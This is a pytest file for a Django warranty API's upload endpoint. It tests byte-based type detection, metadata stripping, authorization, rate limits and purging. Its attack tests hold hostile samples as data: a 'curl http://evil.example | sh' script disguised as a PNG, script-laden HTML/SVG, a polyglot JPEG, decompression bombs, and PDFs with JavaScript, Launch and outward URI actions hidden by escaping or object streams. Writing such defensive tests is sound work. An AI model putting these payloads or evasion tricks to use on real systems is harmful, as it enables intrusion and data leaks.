"""Uploads: types found from the bytes, the attacks refused, metadata stripped, who may see a file, the purge."""

from __future__ import annotations

import datetime
import io
import zlib

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import override_settings
from django.utils import timezone
from django_q.models import Schedule
from PIL import ExifTags, Image
from rest_framework.settings import api_settings
from rest_framework.test import APIClient

from warranty_api import tasks
from warranty_api.core.exceptions import Conflict
from warranty_api.management.commands.schedules_sync import SCHEDULES
from warranty_api.media.selectors import media_unattached_of
from warranty_api.media.services import media_attach, media_upload
from warranty_api.models import Customer, Media, Warranty

UPLOAD = "/api/northpeak/upload"
PUBLIC_UPLOAD = "/api/p/northpeak/upload"


pytestmark = pytest.mark.usefixtures("media_root")


# --- files made for the tests -----------------------------------------------------------------------------------

MARKER_DESC = b"marker-description-1234"
MARKER_XMP = b"marker-xmp-5678"


def _exif(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.ImageDescription] = MARKER_DESC.decode()
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (25.0, 46.0, 30.0), 3: "W", 4: (80.0, 11.0, 0.0)}
    return exif.tobytes()


def image_bytes(fmt: str, size=(60, 40), mode="RGB", **options) -> bytes:
    image = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else None)
    # A second colour in one corner, so orientation can be checked after the upload.
    image.paste((10, 10, 200) if mode == "RGB" else 0, (0, 0, 10, 10))
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def jpeg_with_metadata(orientation: int = 1) -> bytes:
    return image_bytes("JPEG", exif=_exif(orientation), xmp=b"<x:xmpmeta>" + MARKER_XMP + b"</x:xmpmeta>")


def minimal_pdf(extra_catalog: bytes = b"", extra_objects: bytes = b"") -> bytes:
    """A real, minimal one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += extra_objects
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_with_hidden_js() -> bytes:
    """/JS inside a compressed object stream: invisible to a scan of the raw bytes."""
    hidden = zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert(1)) >>")
    stream = b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(hidden)
    return minimal_pdf(b"/OpenAction 4 0 R ", stream + hidden + b"\nendstream\nendobj\n")


def pdf_with_object_stream(inner: bytes, dictionary: bytes = b"/Filter /FlateDecode", compress=zlib.compress) -> bytes:
    """`inner` as the objects of a compressed object stream whose dictionary also holds `dictionary`."""
    packed = compress(b"4 0 " + inner)
    stream = b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 " + dictionary + b" /Length %d >>\nstream\n" % len(packed)
    return minimal_pdf(b"/OpenAction 4 0 R ", stream + packed + b"\nendstream\nendobj\n")


def upload_file(content: bytes, name: str = "photo.jpg", content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def post_upload(client, content: bytes, name="photo.jpg", content_type="image/jpeg", url=UPLOAD, meta=None, **fields):
    form = {"file": upload_file(content, name, content_type), **fields}
    return client.post(url, form, format="multipart", **(meta or {}))


def assert_error(response, status: int, code: str) -> dict:
    assert response.status_code == status, response.content
    body = response.json()
    assert body["error"]["code"] == code
    assert body["error"]["message"]
    return body["error"]


def served(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def customer(actors):
    return actors["customer"]


# --- accepted types --------------------------------------------------------------------------------------------

ACCEPTED = [
    ("jpeg", lambda: image_bytes("JPEG"), "image/jpeg", "image"),
    ("png", lambda: image_bytes("PNG"), "image/png", "image"),
    ("png_alpha", lambda: image_bytes("PNG", mode="RGBA"), "image/png", "image"),
    ("webp", lambda: image_bytes("WEBP"), "image/webp", "image"),
    ("heic", lambda: image_bytes("HEIF"), "image/jpeg", "image"),
    ("pdf_pillow", lambda: image_bytes("PDF"), "application/pdf", "pdf"),
    ("pdf_minimal", minimal_pdf, "application/pdf", "pdf"),
]


@pytest.mark.parametrize(("label", "make", "stored_type", "kind"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_every_accepted_type_is_stored_with_its_type_from_the_bytes(customer, label, make, stored_type, kind):
    user, client = customer
    # The name and the declared type lie on purpose: only the bytes count.
    response = post_upload(client, make(), name="upload.txt", content_type="text/plain")
    assert response.status_code == 201, response.content
    data = response.json()["data"]
    media = Media.objects.get(pk=data["id"])
    assert data["id"].startswith("media_")
    assert (data["type"], data["kind"]) == (stored_type, kind)
    assert data["size"] == media.size == default_storage.size(media.file.name)
    assert data["url"] == f"/api/northpeak/media/{media.pk}"
    assert data["created_at"].endswith("Z")
    assert media.uploaded_by == user and media.attached_at is None and media.purpose == "claim_photo"
    assert len(media.sha256) == 64
    if kind == "image":
        assert (data["width"], data["height"]) == (60, 40)
        assert data["thumbnail_url"] == f"/api/northpeak/media/{media.pk}?size=thumb"
        assert Image.open(default_storage.open(media.file.name)).format == {"image/jpeg": "JPEG"}.get(
            stored_type, stored_type.split("/")[1].upper()
        )
    else:
        assert data["width"] is None and data["thumbnail_url"] is None and not media.thumbnail


def test_exif_gps_and_xmp_are_stripped_and_orientation_kept(customer):
    _user, client = customer
    original = jpeg_with_metadata(orientation=6)  # 60x40 stored, shown rotated: 40x60
    assert MARKER_DESC in original and MARKER_XMP in original
    data = post_upload(client, original).json()["data"]
    assert (data["width"], data["height"]) == (40, 60)

    content = served(client.get(data["url"]))
    assert MARKER_DESC not in content and MARKER_XMP not in content
    image = Image.open(io.BytesIO(content))
    assert image.size == (40, 60)
    assert len(image.getexif()) == 0
    assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert "exif" not in image.info and "xmp" not in image.info
    # Orientation 6 turns the image a quarter clockwise: the blue top-left corner ends top-right.
    r, _g, b = image.convert("RGB").getpixel((image.width - 3, 2))
    assert b > 150 and r < 100


def test_heic_metadata_is_stripped_too(customer):
    _user, client = customer
    data = post_upload(client, image_bytes("HEIF", exif=_exif()), name="IMG_0001.HEIC").json()["data"]
    content = served(client.get(data["url"]))
    assert data["type"] == "image/jpeg" and content.startswith(b"\xff\xd8\xff")
    assert MARKER_DESC not in content and len(Image.open(io.BytesIO(content)).getexif()) == 0


def test_thumbnail_is_a_small_jpeg(customer):
    _user, client = customer
    data = post_upload(client, image_bytes("PNG", size=(1200, 600), mode="RGBA")).json()["data"]
    response = client.get(data["thumbnail_url"])
    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    thumb = Image.open(io.BytesIO(served(response)))
    assert thumb.format == "JPEG" and thumb.size == (400, 200)


# --- attacks -----------------------------------------------------------------------------------------------------

SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"
REFUSED_415 = [
    ("png_header_on_a_script", b"\x89PNG\r\n\x1a\n" + SCRIPT, "x.png", "image/png"),
    ("jpeg_magic_on_html", b"\xff\xd8\xff<html><script>alert(1)</script></html>", "x.jpg", "image/jpeg"),
    ("svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "x.svg", "image/svg+xml"),
    ("html", b"<!doctype html><script>alert(1)</script>", "x.jpg", "image/jpeg"),
    ("gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "x.gif", "image/gif"),
    ("zip", b"PK\x03\x04" + b"\x00" * 40, "x.jpg", "image/jpeg"),
    ("truncated_jpeg", None, "x.jpg", "image/jpeg"),
    ("pdf_without_end", b"%PDF-1.4\n1 0 obj << >> endobj\n", "x.pdf", "application/pdf"),
]


@pytest.mark.parametrize(("label", "content", "name", "declared"), REFUSED_415, ids=[r[0] for r in REFUSED_415])
def test_files_that_are_not_an_accepted_type_end_to_end_are_415(customer, label, content, name, declared):
    _user, client = customer
    if content is None:
        whole = image_bytes("JPEG", size=(300, 300), quality=95)
        content = whole[: len(whole) // 2]
    assert_error(post_upload(client, content, name, declared), 415, "unsupported_media_type")
    assert not Media.objects.exists()


def test_polyglot_is_accepted_and_served_without_its_payload(customer):
    """Chosen behaviour: a valid JPEG with a ZIP and a script appended is accepted, and re-encoding drops the rest.

    Phones append data after the image (Samsung does), so refusing trailing bytes would refuse real photos.
    """
    _user, client = customer
    payload = b"PK\x03\x04" + b"\x00" * 26 + b"<html><script>alert('polyglot')</script></html>"
    data = post_upload(client, image_bytes("JPEG") + payload).json()["data"]
    response = client.get(data["url"])
    content = served(response)
    assert b"polyglot" not in content and b"PK\x03\x04" not in content
    assert content.endswith(b"\xff\xd9")
    assert response["Content-Type"] == "image/jpeg"


@pytest.fixture(scope="module")
def bomb_png() -> bytes:
    # 100 megapixels of one colour compress to about 12 KB; decoded they would take 100 MB or more.
    buffer = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(buffer, "PNG")
    return buffer.getvalue()


def test_decompression_bomb_is_413_before_decoding(customer, bomb_png):
    _user, client = customer
    assert len(bomb_png) < 100_000
    error = assert_error(post_upload(client, bomb_png, "bomb.png", "image/png"), 413, "payload_too_large")
    assert "40 megapixels" in error["message"]
    assert not Media.objects.exists()


@override_settings(AFTERSALE_UPLOAD_MAX_PIXELS=1_000)
def test_pixel_limit_comes_from_settings(customer):
    _user, client = customer
    error = assert_error(post_upload(client, image_bytes("PNG", size=(40, 30))), 413, "payload_too_large")
    assert "40x30 pixels" in error["message"]
    assert post_upload(client, image_bytes("PNG", size=(30, 30))).status_code == 201


def test_pillow_bomb_warning_is_an_error_not_a_warning(tenant, bomb_png, settings):
    # With our own limit out of the way, Pillow's check (which only warns below twice its limit) must refuse.
    settings.AFTERSALE_UPLOAD_MAX_PIXELS = 10**12
    original = Image.MAX_IMAGE_PIXELS
    Image.MAX_IMAGE_PIXELS = 60_000_000  # 100 MP is then between one and two times Pillow's limit: a warning
    try:
        with pytest.raises(Exception) as caught:
            media_upload(tenant=tenant, uploaded_by=None, upload=upload_file(bomb_png, "b.png"), purpose="claim_photo")
    finally:
        Image.MAX_IMAGE_PIXELS = original
    assert caught.value.status_code == 413 and caught.value.code == "payload_too_large"


def test_file_over_10_mb_is_413_on_the_declared_length(customer):
    _user, client = customer
    content = image_bytes("JPEG") + b"\x00" * (10 * 1024 * 1024)
    assert_error(post_upload(client, content), 413, "payload_too_large")
    assert not Media.objects.exists()


@override_settings(AFTERSALE_UPLOAD_MAX_BYTES=1_000)
def test_file_over_the_limit_is_413_from_the_file_size(customer):
    # The request is small enough to pass the length check; the service refuses on the file's own size.
    _user, client = customer
    error = assert_error(post_upload(client, image_bytes("PNG") + b"\0" * 2_000), 413, "payload_too_large")
    assert "at most" in error["message"]


PDF_REFUSED = [
    ("javascript", minimal_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "), "JavaScript"),
    ("escaped_name", minimal_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "), "JavaScript"),
    ("hidden_in_object_stream", pdf_with_hidden_js(), "JavaScript"),
    ("launch", minimal_pdf(b"/OpenAction << /S /Launch /F (calc.exe) >> "), "launch"),
    ("embedded_file", minimal_pdf(b"/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 9 0 R >> >>] >> >> "), "embedded"),
    ("encrypted", minimal_pdf(b"/Encrypt << /Filter /Standard >> "), "encrypted"),
    # Actions that reach outside the document: another file, a form post, a web address, an embedded file.
    ("go_to_remote", minimal_pdf(b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >> "), "outside"),
    ("go_to_embedded", minimal_pdf(b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >> "), "outside"),
    ("submit_form", minimal_pdf(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://x.example/) >> >> "),
     "outside"),
    ("uri", minimal_pdf(b"/OpenAction << /S /URI /URI (https://x.example/?leak) >> "), "outside"),
    ("import_data", minimal_pdf(b"/OpenAction << /S /ImportData /F (data.fdf) >> "), "outside"),
    ("escaped_uri", minimal_pdf(b"/OpenAction << /S /#55#52I /#55RI (https://x.example/) >> "), "outside"),
    ("submit_form_in_object_stream", pdf_with_object_stream(b"<< /S /SubmitForm /F (https://x.example/) >>"),
     "outside"),
    ("uri_in_object_stream_escaped", pdf_with_object_stream(b"<< /S /U#52I /U#52I (https://x.example/) >>"), "outside"),
    # Object streams whose content a plain inflate would not show as a reader sees it.
    ("object_stream_compressed_twice",
     pdf_with_object_stream(b"<< /S /JavaScript /JS (1) >>", b"/Filter [/FlateDecode /FlateDecode]",
                            lambda data: zlib.compress(zlib.compress(data))), "cannot check"),
    ("object_stream_with_a_predictor",
     pdf_with_object_stream(b"<< /S /URI /URI (x) >>", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
     "cannot check"),
    ("object_stream_ascii_hex", pdf_with_object_stream(b"<< /S /URI /URI (x) >>", b"/Filter /ASCIIHexDecode",
                                                       lambda data: data.hex().encode() + b">"), "cannot check"),
    # The stream's dictionary hides its /Type from a look-back: a string holding "obj", then padding.
    ("object_stream_dictionary_disguised",
     pdf_with_object_stream(b"<< /S /URI /URI (x) >>", b"/Pad (" + b"x" * 5000 + b") /Fake (obj) /Filter /FlateDecode"),
     "cannot check"),
]


@pytest.mark.parametrize(("label", "content", "why"), PDF_REFUSED, ids=[p[0] for p in PDF_REFUSED])
def test_active_pdfs_are_refused_saying_why(customer, label, content, why):
    _user, client = customer
    error = assert_error(post_upload(client, content, "receipt.pdf", "application/pdf"), 415, "unsupported_media_type")
    assert why in error["message"]
    assert not Media.objects.exists()


# --- the request itself ------------------------------------------------------------------------------------------


def test_non_multipart_body_is_415(customer):
    _user, client = customer
    assert_error(client.post(UPLOAD, {"file": "aGVsbG8="}, format="json"), 415, "unsupported_media_type")
    assert_error(client.post(PUBLIC_UPLOAD, {"file": "aGVsbG8="}, format="json"), 415, "unsupported_media_type")


def test_missing_file_is_a_field_error(customer):
    _user, client = customer
    error = assert_error(client.post(UPLOAD, {"other": "x"}, format="multipart"), 400, "validation_error")
    assert error["fields"]["file"][0]["code"] == "required"


def test_purpose_is_checked_and_stored(customer):
    _user, client = customer
    response = post_upload(client, minimal_pdf(), "r.pdf", purpose="proof_of_purchase")
    assert Media.objects.get(pk=response.json()["data"]["id"]).purpose == "proof_of_purchase"
    error = assert_error(post_upload(client, minimal_pdf(), "r.pdf", purpose="selfie"), 400, "validation_error")
    assert error["fields"]["purpose"][0]["code"] == "invalid_choice"


def test_public_upload_is_anonymous_and_a_proof_of_purchase(api, tenant):
    response = post_upload(api, minimal_pdf(), "receipt.pdf", url=PUBLIC_UPLOAD)
    assert response.status_code == 201, response.content
    media = Media.objects.get(pk=response.json()["data"]["id"])
    assert media.uploaded_by is None and media.purpose == "proof_of_purchase" and media.tenant == tenant


def test_public_upload_is_rate_limited_per_ip(api, tenant, settings):
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {**api_settings.DEFAULT_THROTTLE_RATES, "public_ip": "2/minute"},
    }
    for _ in range(2):
        assert post_upload(api, minimal_pdf(), "r.pdf", url=PUBLIC_UPLOAD).status_code == 201
    response = post_upload(api, minimal_pdf(), "r.pdf", url=PUBLIC_UPLOAD)
    assert_error(response, 429, "rate_limited")
    assert int(response["Retry-After"]) >= 1
    assert Media.objects.count() == 2
    # Another address has its own budget.
    assert post_upload(api, minimal_pdf(), "r.pdf", url=PUBLIC_UPLOAD, meta={"REMOTE_ADDR": "10.1.2.3"}).status_code == 201


# --- authorization tables -------------------------------------------------------------------------------------

UPLOAD_STATUS = {
    "anonymous": 401,
    "customer": 201,
    "other_customer": 201,
    "other_tenant_customer": 401,
    "agent": 201,
    "admin": 201,
    "other_tenant_admin": 401,
}


@pytest.mark.parametrize(("actor", "status"), UPLOAD_STATUS.items())
def test_upload_authorization(actors, actor, status):
    user, client = actors[actor]
    response = post_upload(client, image_bytes("PNG"))
    assert response.status_code == status, response.content
    if status == 201:
        assert list(Media.objects.values_list("uploaded_by", flat=True)) == [user.pk]
    else:
        assert not Media.objects.exists()


PUBLIC_UPLOAD_STATUS = {**UPLOAD_STATUS, "anonymous": 201}


@pytest.mark.parametrize(("actor", "status"), PUBLIC_UPLOAD_STATUS.items())
def test_public_upload_authorization(actors, actor, status):
    user, client = actors[actor]
    response = post_upload(client, image_bytes("PNG"), url=PUBLIC_UPLOAD)
    assert response.status_code == status, response.content
    if status == 201:
        assert list(Media.objects.values_list("uploaded_by", flat=True)) == [user.pk if user else None]
    else:
        assert not Media.objects.exists()


SERVE_STATUS = {
    "anonymous": 404,
    "customer": 200,
    "other_customer": 404,
    "other_tenant_customer": 401,  # a token of another brand is refused before any lookup
    "agent": 200,
    "admin": 200,
    "other_tenant_admin": 401,
}


def _snapshot():
    return list(Media.objects.order_by("pk").values_list("pk", "attached_at", "updated_at", "file", "thumbnail"))


@pytest.mark.parametrize(("actor", "status"), SERVE_STATUS.items())
@pytest.mark.parametrize("variant", ["file", "thumb"])
def test_serve_authorization(actors, actor, status, variant):
    _owner, owner_client = actors["customer"]
    data = post_upload(owner_client, jpeg_with_metadata()).json()["data"]
    before = _snapshot()
    _user, client = actors[actor]
    response = client.get(data["url"] if variant == "file" else data["thumbnail_url"])
    assert response.status_code == status
    if status == 200:
        assert response["Content-Type"] == "image/jpeg"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Disposition"].startswith("inline")
        assert Image.open(io.BytesIO(served(response))).format == "JPEG"
    else:
        assert response.json()["error"]["code"] == ("not_found" if status == 404 else "authentication_failed")
    assert _snapshot() == before


def test_unknown_and_foreign_media_are_404(actors, make_staff, other_tenant):
    _user, client = actors["customer"]
    data = post_upload(client, image_bytes("PNG")).json()["data"]
    assert_error(client.get("/api/northpeak/media/media_doesnotexist"), 404, "not_found")
    # The same id under another brand's path, asked by that brand's admin: not there.
    _admin, foreign_client = actors["other_tenant_admin"]
    assert_error(foreign_client.get(f"/api/southwind/media/{data['id']}"), 404, "not_found")


def test_pdf_is_served_as_an_attachment_and_has_no_thumbnail(actors):
    _user, client = actors["customer"]
    content = minimal_pdf()
    data = post_upload(client, content, "receipt.pdf").json()["data"]
    response = client.get(data["url"], HTTP_ACCEPT="application/pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert served(response) == content
    assert_error(client.get(data["url"] + "?size=thumb"), 404, "not_found")


def test_anonymous_public_upload_is_seen_by_staff_then_by_the_warranty_owner(actors, tenant):
    owner, owner_client = actors["customer"]
    _agent, agent_client = actors["agent"]
    data = post_upload(actors["anonymous"][1], minimal_pdf(), "receipt.pdf", url=PUBLIC_UPLOAD).json()["data"]
    assert owner_client.get(data["url"]).status_code == 404
    assert agent_client.get(data["url"]).status_code == 200

    media = Media.objects.get(pk=data["id"])
    product = tenant.products.get()
    record = Customer.objects.create(tenant=tenant, email=owner.email)
    today = datetime.date(2026, 1, 15)
    Warranty.objects.create(
        tenant=tenant, serial_number="SN-CA-20250115", product=product, customer=record, owner=owner,
        purchase_date=today, warranty_start=today, warranty_end=today.replace(year=2028), coverage="full_replacement",
        proof_of_purchase=media,
    )
    media_attach(media=media)
    assert owner_client.get(data["url"]).status_code == 200
    assert actors["other_customer"][1].get(data["url"]).status_code == 404


# --- attaching and the purge -------------------------------------------------------------------------------------


def _upload(tenant, user=None, content=None, age_hours: float = 0) -> Media:
    media = media_upload(
        tenant=tenant, uploaded_by=user, upload=upload_file(content or image_bytes("PNG"), "p.png"), purpose="claim_photo"
    )
    if age_hours:
        Media.objects.filter(pk=media.pk).update(created_at=timezone.now() - datetime.timedelta(hours=age_hours))
    return media


def test_attach_once_only(tenant, make_customer):
    user = make_customer(tenant)
    media = _upload(tenant, user)
    assert list(media_unattached_of(tenant=tenant, ids=[media.pk])) == [media]
    media_attach(media=media)
    assert Media.objects.get(pk=media.pk).attached_at is not None
    assert not media_unattached_of(tenant=tenant, ids=[media.pk]).exists()
    with pytest.raises(Conflict) as caught:
        media_attach(media=Media.objects.get(pk=media.pk))
    assert caught.value.code == "media_already_attached"


def test_purge_deletes_old_unattached_uploads_with_their_files(tenant, other_tenant):
    old = _upload(tenant, age_hours=25)
    old_pdf = _upload(other_tenant, content=minimal_pdf(), age_hours=30)
    fresh = _upload(tenant, age_hours=23)
    attached = _upload(tenant, age_hours=48)
    media_attach(media=attached)
    old_files = [old.file.name, old.thumbnail.name, old_pdf.file.name]
    assert all(default_storage.exists(name) for name in old_files)

    assert tasks.media_purge_unattached() == 2
    assert set(Media.objects.values_list("pk", flat=True)) == {fresh.pk, attached.pk}
    assert not any(default_storage.exists(name) for name in old_files)
    for kept in (fresh, attached):
        assert default_storage.exists(kept.file.name) and default_storage.exists(kept.thumbnail.name)

    assert tasks.media_purge_unattached() == 0  # safe to run twice
    assert Media.objects.count() == 2


def test_schedules_sync_creates_the_hourly_purge_once_and_repairs_it(db):
    call_command("schedules_sync")
    call_command("schedules_sync")
    schedule = Schedule.objects.get(name="media_purge_unattached")
    assert schedule.func == "warranty_api.tasks.media_purge_unattached"
    assert schedule.schedule_type == Schedule.HOURLY
    Schedule.objects.filter(pk=schedule.pk).update(schedule_type=Schedule.DAILY)
    Schedule.objects.create(name="retired", func="warranty_api.tasks.gone", schedule_type=Schedule.DAILY)
    call_command("schedules_sync")
    assert Schedule.objects.get(name="media_purge_unattached").schedule_type == Schedule.HOURLY
    assert not Schedule.objects.filter(name="retired").exists()

    assert Schedule.objects.count() == len(SCHEDULES)  # every listed schedule, and nothing else



def test_a_pdf_with_a_plain_object_stream_is_accepted(customer):
    """Object streams themselves are fine (PDF 1.5 writers use them); only what they hold is judged."""
    _user, client = customer
    content = pdf_with_object_stream(b"<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Contents (note) >>")
    assert post_upload(client, content, "receipt.pdf", "application/pdf").status_code == 201


def worst_case_png(side: int = 6240) -> bytes:
    """A few hundred KB that decode to side x side RGB pixels (the issue's 147 KB file was 156 MB decoded)."""
    buffer = io.BytesIO()
    Image.new("RGB", (side, side), (255, 255, 255)).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def test_a_worst_case_image_on_the_public_path_is_refused_before_decoding(api, tenant):
    """Anonymous uploads have a lower pixel cap, read from the header: nothing of the raster is decoded."""
    import tracemalloc

    content = worst_case_png()
    assert len(content) < 400_000
    tracemalloc.start()
    try:
        response = post_upload(api, content, "receipt.png", "image/png", url=PUBLIC_UPLOAD)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    error = assert_error(response, 413, "payload_too_large")
    assert "6240x6240" in error["message"] and "without signing in" in error["message"]
    # Far from the 117 MB raster; the bound leaves room for what a first request imports, which is traced too.
    assert peak < 20_000_000
    assert not Media.objects.exists()


def test_the_public_pixel_cap_is_a_setting(api, tenant, settings):
    settings.AFTERSALE_UPLOAD_PUBLIC_MAX_PIXELS = 1_000_000
    content = image_bytes("PNG", size=(1200, 1000))
    assert_error(post_upload(api, content, "r.png", "image/png", url=PUBLIC_UPLOAD), 413, "payload_too_large")
    settings.AFTERSALE_UPLOAD_PUBLIC_MAX_PIXELS = 1_200_000
    assert post_upload(api, content, "r.png", "image/png", url=PUBLIC_UPLOAD).status_code == 201


# --- attaching only one's own upload -----------------------------------------------------------------------------

REGISTER = "/api/p/northpeak/warranties"


def _registration(serial: str, email: str, **fields) -> dict:
    purchase = (timezone.localdate() - datetime.timedelta(days=3)).isoformat()
    return {"serial_number": serial, "purchase_date": purchase, **fields,
            "customer": {"email": email, "name": "N", "phone": "+1-555-0100", "address": {"city": "Miami"}}}


@pytest.mark.parametrize("registrant", ["anonymous", "other_customer"])
@pytest.mark.parametrize("victims_upload", ["signed-in photo", "public receipt"])
def test_a_registration_cannot_take_someone_elses_upload_by_its_id(actors, registrant, victims_upload):
    _owner, owner_client = actors["customer"]
    if victims_upload == "signed-in photo":
        upload = post_upload(owner_client, image_bytes("PNG"), "me.png").json()["data"]
    else:
        upload = post_upload(APIClient(), minimal_pdf(), "receipt.pdf", url=PUBLIC_UPLOAD).json()["data"]
    user, client = actors[registrant]
    email = user.email if user else "stranger@example.com"
    attempts = [{"proof_of_purchase": upload["id"]},
                {"proof_of_purchase": upload["id"], "proof_of_purchase_token": "forged"}]
    if victims_upload == "public receipt":  # the token of another upload proves nothing about this one
        other = post_upload(APIClient(), minimal_pdf(), "mine.pdf", url=PUBLIC_UPLOAD).json()["data"]
        attempts.append({"proof_of_purchase": upload["id"], "proof_of_purchase_token": other["upload_token"]})
    for n, fields in enumerate(attempts):
        response = client.post(REGISTER, _registration(f"SN-CA-0080000{n}", email, **fields), format="json")
        error = assert_error(response, 400, "validation_error")
        assert error["fields"]["proof_of_purchase"][0]["code"] == "not_found"
    assert not Warranty.objects.exists() and Media.objects.get(pk=upload["id"]).attached_at is None
    if user is not None:
        assert client.get(upload["url"]).status_code == 404


def test_an_upload_is_attached_by_its_uploader_or_with_the_token_its_answer_gave(actors):
    # Anonymous, as the portal does: the public upload, then the registration with its token.
    public = post_upload(APIClient(), minimal_pdf(), "receipt.pdf", url=PUBLIC_UPLOAD).json()["data"]
    assert public["upload_token"]
    fields = {"proof_of_purchase": public["id"], "proof_of_purchase_token": public["upload_token"]}
    response = APIClient().post(REGISTER, _registration("SN-CA-00800011", "a@example.com", **fields), format="json")
    assert response.status_code == 201, response.content
    assert response.json()["data"]["proof_of_purchase"] == public["id"]
    # Signed in, the public upload's token works the same; and the caller's own signed-in upload needs none.
    owner, owner_client = actors["customer"]
    public = post_upload(APIClient(), minimal_pdf(), "receipt.pdf", url=PUBLIC_UPLOAD).json()["data"]
    fields = {"proof_of_purchase": public["id"], "proof_of_purchase_token": public["upload_token"]}
    assert owner_client.post(REGISTER, _registration("SN-CA-00800012", owner.email, **fields),
                             format="json").status_code == 201
    own = post_upload(owner_client, minimal_pdf(), "receipt.pdf", purpose="proof_of_purchase").json()["data"]
    response = owner_client.post(REGISTER, _registration("SN-CA-00800013", owner.email, proof_of_purchase=own["id"]),
                                 format="json")
    assert response.status_code == 201, response.content
    assert owner_client.get(own["url"]).status_code == 200


def test_images_are_decoded_a_few_at_a_time_and_a_long_wait_is_503_busy(api, tenant, settings):
    """The memory spent decoding is bounded by the decode slots: with every slot taken, an image waits, then is 503."""
    import threading

    from warranty_api.media.services import decode_slot

    settings.AFTERSALE_UPLOAD_DECODE_CONCURRENCY = 1
    settings.AFTERSALE_UPLOAD_DECODE_WAIT_SECONDS = 0.2
    taken, release = threading.Event(), threading.Event()

    def hold_the_only_slot():
        with decode_slot():
            taken.set()
            release.wait(10)

    holder = threading.Thread(target=hold_the_only_slot)
    holder.start()
    try:
        assert taken.wait(10)
        response = post_upload(api, image_bytes("PNG"), "receipt.png", "image/png", url=PUBLIC_UPLOAD)
        assert_error(response, 503, "busy")
        assert response["Retry-After"] == "5"
        assert not Media.objects.exists()
        # A PDF holds no raster: it needs no slot.
        assert post_upload(api, minimal_pdf(), "receipt.pdf", "application/pdf", url=PUBLIC_UPLOAD).status_code == 201
    finally:
        release.set()
        holder.join()
    assert post_upload(api, image_bytes("PNG"), "receipt.png", "image/png", url=PUBLIC_UPLOAD).status_code == 201
